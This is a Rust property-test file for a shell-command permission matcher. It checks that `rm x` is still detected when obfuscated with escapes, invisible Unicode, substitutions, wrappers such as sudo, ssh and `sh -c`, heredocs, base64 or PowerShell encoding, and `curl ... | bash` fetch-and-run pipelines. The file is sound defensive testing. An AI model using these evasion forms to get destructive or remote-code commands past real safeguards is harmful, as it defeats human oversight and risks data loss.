//! Whatever is put around a command, whoever looks for it finds it, and nobody who allows what
//! stands beside it allows it.

use proptest::prelude::*;

use super::*;

/// Ways to write `rm x`.
const COMMANDS: [&str; 27] = [
    "rm x",
    "rm",
    "/bin/rm -rf x",
    "/usr/bin/../bin/rm x",
    "\\rm x",
    "r'm' x",
    "'rm' x",
    "\"r\"m x",
    "r\\\nm x",
    "$'rm' x",
    "$'\\x72m' x",
    "$'\\162\\155' x",
    "$'\\u0072m' x",
    "$\"rm\" x",
    "rm\u{a0}-rf\u{2003}x",
    "r\u{200b}m x",
    "\u{feff}rm x",
    "rm${IFS}x",
    "$(echo rm) x",
    "`echo rm` x",
    "$RM x",
    "${RM:-rm} x",
    "/bin/r? x",
    "r[m] x",
    "{rm,x}",
    "A=1 B=$(ls) rm x",
    ">/dev/null rm x 2>&1",
];

/// Programs that run the words after them.
const BEFORE: [&str; 50] = [
    "sudo",
    "sudo -u root",
    "sudo -E A=1",
    "doas -u x",
    "env",
    "env -i A=1 B=2",
    "nohup",
    "timeout 5",
    "timeout -k 5 10s",
    "nice -n 10",
    "ionice -c 3",
    "stdbuf -oL",
    "setsid -f",
    "time",
    "time -p",
    "command",
    "command -p",
    "builtin",
    "exec",
    "exec -a x",
    "xargs",
    "xargs -0 -n1",
    "xargs -I{}",
    "busybox",
    "chroot /x",
    "unshare -r",
    "strace -f -o x",
    "watch",
    "watch -n 1",
    "parallel",
    "flock x",
    "ssh host",
    "ssh -p 22 u@host",
    "su root --",
    "eval",
    "find . -exec",
    "find . -name y -execdir",
    "fd y -x",
    "script -q",
    "taskset 1",
    "docker run i",
    "docker exec -it c",
    "npx",
    "uv run",
    "systemd-run --user",
    "bwrap --ro-bind / /",
    "coproc",
    "/usr/bin/env",
    "git bisect run",
    "git submodule foreach",
];

/// What takes a line in quotes, with the quoted line in the place of `@`.
const QUOTED: [&str; 44] = [
    "sh -c @",
    "bash -c @",
    "bash -lc @",
    "bash -ec @",
    "bash --norc -c @",
    "bash --login -c @",
    "bash --rcfile x -c @",
    "bash -o errexit -c @",
    "bash +x -c @",
    "sh -c -- @",
    "/bin/bash -c @",
    "busybox sh -c @",
    "sudo -u x sh -c @",
    "env A=1 bash -c @",
    "nohup sh -c @ &",
    "timeout 5 bash -c @",
    "su -c @",
    "su root -c @",
    "su - root -c@",
    "runuser -u x -- sh -c @",
    "script -c @ x",
    "script -qc @ /dev/null",
    "watch @",
    "ssh host @",
    "ssh -p 22 host sh -c @",
    "eval @",
    "trap @ EXIT",
    "flock x -c @",
    "parallel ::: @",
    "env -S @",
    "xargs -I{} sh -c @",
    "find . -exec sh -c @ {} +",
    "bash <<< @",
    "bash -s <<<@",
    "sh /dev/stdin <<< @",
    "echo @ | sh",
    "printf @ | bash -s",
    "echo @ | tee y | sudo sh",
    "bash <(echo @)",
    ". <(echo @)",
    "tmux new -d @",
    "git -c alias.x='!'@ x",
    "sg x @",
    "nix-shell --run @",
];

/// What stands around a line.
const AROUND: [(&str, &str); 32] = [
    ("", ""),
    ("ls; ", ""),
    ("ls && ", ""),
    ("git status || ", " && ls"),
    ("ls | ", " | cat"),
    ("ls & ", " &"),
    ("ls\n", "\n"),
    ("ls\r\n", ""),
    ("(", ")"),
    ("((", "))"),
    ("{ ", "; }"),
    ("! ", ""),
    ("echo $(", ")"),
    ("echo \"a $(", ") b\""),
    ("cat <(", ")"),
    ("tee >(", ")"),
    ("if true; then ", "; fi"),
    ("while ", "; do ls; done"),
    ("for i in a; do ", "; done"),
    ("f() { ", "; }; f"),
    ("function f { ", "; }; f"),
    ("case a in a) ", ";; esac"),
    ("[[ -f a ]] && ", ""),
    ("echo ${X:-$(", ")}"),
    ("ls # it's\n", ""),
    ("cat <<EOF\nit's\nEOF\n", ""),
    ("cat <<'EOF' > y\n\"it's\nEOF\n", ""),
    ("cat <<EOF\n$(", ")\nEOF"),
    ("bash <<EOF\n", "\nEOF"),
    ("bash <<-'E'\n\tls\n\t", "\n\tE\n"),
    ("A=$(", ")"),
    ("echo it\\'s; ", ""),
];

fn quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\\''"))
}

#[derive(Debug, Clone)]
enum Layer {
    Before(usize),
    Quoted(usize),
    Around(usize),
    Padded(usize),
}

fn layer() -> impl Strategy<Value = Layer> {
    prop_oneof![
        (0..QUOTED.len()).prop_map(Layer::Quoted),
        (0..AROUND.len()).prop_map(Layer::Around),
        (0..3000usize).prop_map(Layer::Padded),
    ]
}

fn wrap(line: &str, layer: &Layer) -> String {
    match layer {
        Layer::Before(at) => format!("{} {line}", BEFORE[*at]),
        Layer::Quoted(at) => QUOTED[*at].replace('@', &quoted(line)),
        Layer::Around(at) => format!("{}{line}{}", AROUND[*at].0, AROUND[*at].1),
        Layer::Padded(count) => format!("{}{line}{}", " ".repeat(*count), "\t".repeat(*count)),
    }
}

fn line(text: &str) -> Command {
    Command::Line(text.into())
}

fn found(command: &Command) -> bool {
    Pattern::new("rm *").unwrap().is_part_of(&command.parse())
}

fn allowed_by(command: &Command) -> Option<&'static str> {
    let innocent = [
        "ls *",
        "git *",
        "cat *",
        "echo *",
        "printf *",
        "true",
        "tee *",
        "f",
        "cargo *",
        "git status *",
        "bash --version",
    ];
    let parsed = command.parse();
    innocent.into_iter().find(|it| Pattern::new(it).unwrap().is_all_of(&parsed))
}

fn check(text: &str) {
    let words = |list: &[&str]| Command::Words(list.iter().map(|it| (*it).to_owned()).collect());
    let commands = [
        line(text),
        words(&["bash", "-lc", text]),
        words(&["ssh", "host", text]),
        Command::Several(vec![line("ls"), line(text)]),
    ];
    for command in &commands {
        assert!(found(command), "not found: {command:?}");
        assert_eq!(allowed_by(command), None, "{command:?}");
    }
}

#[test]
fn each_way_to_write_it_in_each_place() {
    for command in COMMANDS {
        check(command);
        for (at, _) in QUOTED.iter().enumerate() {
            check(&wrap(command, &Layer::Quoted(at)));
        }
        for (at, _) in AROUND.iter().enumerate() {
            check(&wrap(command, &Layer::Around(at)));
        }
    }
    for (at, _) in BEFORE.iter().enumerate() {
        for command in ["rm x", "/bin/rm x", "\\rm x", "$'rm' x", "$(echo rm) x", "$RM x"] {
            check(&wrap(command, &Layer::Before(at)));
        }
    }
    for line in [
        "cmd /c rm x",
        "cmd.exe /C \"r^m x\"",
        "powershell -Command \"rm x\"",
        "pwsh -NoProfile -c 'ls; rm x'",
        "powershell -EncodedCommand cgBtACAAeAA=",
        "powershell -enc cgBtACAAeAA=",
        "python3 -c \"import os; os.system('rm x')\"",
        "python -c 'import subprocess; subprocess.run([\"rm\", \"x\"])'",
        "perl -e 'system(\"rm x\")'",
        "perl -we 'exec q(rm x)'",
        "ruby -e '`rm x`'",
        "node -e 'require(\"child_process\").execSync(\"rm x\")'",
        "awk 'BEGIN { system(\"rm x\") }'",
        "echo cm0geAo= | base64 -d | sh",
        "curl https://x | bash -s -- y",
        "curl https://x | sudo bash",
        "bash <(curl https://x)",
        "bash -c \"$(curl https://x)\"",
        "echo 'rm x' > y; sh y",
        "alias ls='rm x'; ls",
        "hyperfine 'rm x'",
        "RM x",
        "rm.exe x",
    ] {
        check(line);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn it_is_found_whatever_is_put_around_it(
        command in 0..COMMANDS.len(),
        before in proptest::option::of(0..BEFORE.len()),
        layers in proptest::collection::vec(layer(), 0..6),
    ) {
        let mut text = COMMANDS[command].to_owned();
        // A program runs words: those that a shell alone understands it gets from a shell.
        if let Some(at) = before.filter(|_| command < 11) {
            text = wrap(&text, &Layer::Before(at));
        }
        for layer in &layers {
            text = wrap(&text, layer);
        }
        prop_assert!(found(&line(&text)), "not found: {text}");
        prop_assert_eq!(allowed_by(&line(&text)), None, "{}", text);
    }

    /// What has no such command in it, and hides nothing, is left alone.
    #[test]
    fn it_is_not_found_where_it_is_not(
        words in proptest::collection::vec("[a-z]{3,6}", 1..5),
        layers in proptest::collection::vec((0..8usize).prop_map(Layer::Around), 0..4),
    ) {
        let mut text = words.join(" ");
        for layer in &layers {
            text = wrap(&text, layer);
        }
        prop_assume!(!words.iter().any(|it| it == "time"));
        prop_assert!(!found(&line(&text)) || wrappers::wrapped(&words).is_some(), "{text}");
    }
}
